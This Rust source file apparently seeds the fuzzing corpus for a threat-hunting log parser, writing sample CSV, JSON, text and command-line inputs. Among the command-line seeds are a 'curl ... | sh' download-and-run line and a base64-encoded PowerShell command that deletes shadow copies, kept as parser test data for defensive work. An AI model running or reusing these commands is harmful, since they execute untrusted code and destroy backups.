//! Writes the first inputs of every target into `fuzz/corpus`: small files made
//! here, the test fixtures, and the heads of the sample logs if they were made.
//!
//!     cargo run --manifest-path fuzz/Cargo.toml --example seeds      (in the project's folder)

use std::fs;
use std::io;
use std::path::Path;

use huntbook::table::IpcFormat;
use huntbook::table::read::{Format, OnBadRow};
use huntbook_fuzz::read_as;

/// Long files only slow the fuzzer down.
const MAX_BYTES: usize = 4096;

const CSV: &[&str] = &[
    "a,b\n1,2\n3,\n",
    "Time;User;\"A \"\"b\"\"\"\r\n2019-01-15T05:15:15.677Z;\"x\ny\";1.5\r\n",
    "a\tb\tb\n007\t+5\t1e999\ntrue\tFalse\t9223372036854775808\n",
    "\"1/15/2019, 5:16:03.000 AM\",x\n\"12/31/2019, 12:00:00.000 PM\",y\n",
];
const JSON: &[&str] = &[
    r#"[{"a":1,"b":{"c":[1,2.5,null]}},{"a":"x","b":{"c":[]},"d":true}]"#,
    r#"{"took":1,"hits":{"hits":[{"a":"2019-01-15T05:15:15Z"},{"a":null}]}}"#,
    r#"[["a"],"\ud83d\ude00\u0000",1e400,-0]"#,
];
const NDJSON: &[&str] = &[
    "{\"a\":1,\"b\":\"x\"}\n{\"a\":2.5}\n\n{\"a\":{\"b\":{\"c\":1}}}\n",
    "{\"a\":1}\n{\"a\":\n{\"a\":9223372036854775808,\"a\":2}\n",
];
const TEXT: &[&str] = &[
    "Jan  1 00:00:00 host sshd[1]: Accepted\n\ntype=A msg=audit(1.1:1): a=1\r\nlast",
    "hxxps[:]//evil[.]example/a?b=c 10.0.0[.]1 2001:db8::1 user[at]example(dot)com\n",
    r"HKLM\Software\X C:\Windows\System32\cmd.exe /usr/bin/sh d41d8cd98f00b204e9800998ecf8427e",
    "1BoatSLRHtKNngkdXEeobR76b53LETtpyT T1059.001 CVE-2021-44228 00:1a:2b:3c:4d:5e",
];
/// The rules' own examples are the best command lines; these have quotes and blocks.
const COMMAND_LINES: &[&str] = &[
    r#""C:\a b\x.exe" "c:\dir\\" "say \"hi\"" a\\\"b"#,
    r#"sh -c 'echo "a b" | base64 -d; curl http://203.0.113.7/a|sh' \ x"#,
    "$a=@\"\nx;{\n\"@;if($a){\"b$(c ';)')\"|%{$_};d} # e;f\n<# g #>",
    "powershell -nop -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==",
    include_str!("../../src/transform/command_line/rules.json"),
];

fn main() -> io::Result<()> {
    for (i, seed) in COMMAND_LINES.iter().enumerate() {
        add("command_line", &format!("{i}"), &seed.as_bytes()[..seed.len().min(MAX_BYTES)])?;
    }
    for (target, seeds) in [
        ("csv", CSV),
        ("json", JSON),
        ("ndjson", NDJSON),
        ("text", TEXT),
    ] {
        for (i, seed) in seeds.iter().enumerate() {
            add(&format!("read_{target}"), &format!("{i}"), seed.as_bytes())?;
            add("read_archive", &format!("{target}-{i}"), seed.as_bytes())?;
            add("extract", &format!("{target}-{i}"), seed.as_bytes())?;
        }
    }
    // Arrow files are made of what the other readers read.
    let tables = [
        (Format::Csv, CSV),
        (Format::Json, JSON),
        (Format::Ndjson, NDJSON),
        (Format::Text, TEXT),
    ];
    for (format, seeds) in tables {
        for (i, seed) in seeds.iter().enumerate() {
            let Ok(table) = read_as(seed.as_bytes(), Some(format), OnBadRow::Skip) else {
                continue;
            };
            for (kind, shape) in [("stream", IpcFormat::Stream), ("file", IpcFormat::File)] {
                let bytes = table.to_ipc(shape).map_err(io::Error::other)?;
                add(
                    "read_arrow",
                    &format!("{}-{i}-{kind}", format.name()),
                    &bytes,
                )?;
            }
        }
    }
    each_file(
        "tests/fixtures/pickles",
        &mut |name, bytes| match name.ends_with(".pkl") {
            true => add("read_pickle", name, bytes),
            false => add("read_archive", name, bytes),
        },
    )?;
    each_file("www/samples", &mut |name, bytes| {
        let head = &bytes[..bytes.len().min(MAX_BYTES)];
        let target = match Path::new(name).extension().and_then(|end| end.to_str()) {
            Some("csv" | "tsv") => "read_csv",
            Some("json") => "read_json",
            Some("ndjson" | "jsonl") => "read_ndjson",
            Some("gz" | "zip") => return Ok(()),
            _ => "read_text",
        };
        add(target, name, head)?;
        add("extract", name, head)
    })
}

fn add(target: &str, name: &str, bytes: &[u8]) -> io::Result<()> {
    let folder = Path::new("fuzz/corpus").join(target);
    fs::create_dir_all(&folder)?;
    fs::write(folder.join(format!("seed-{name}")), bytes)
}

/// The files of a folder; none if it is not there.
fn each_file(folder: &str, each: &mut dyn FnMut(&str, &[u8]) -> io::Result<()>) -> io::Result<()> {
    let Ok(files) = fs::read_dir(folder) else {
        return Ok(());
    };
    for file in files {
        let path = file?.path();
        if path.is_file() {
            let name = path
                .file_name()
                .unwrap_or_default()
                .to_string_lossy()
                .into_owned();
            each(&name, &fs::read(&path)?)?;
        }
    }
    Ok(())
}
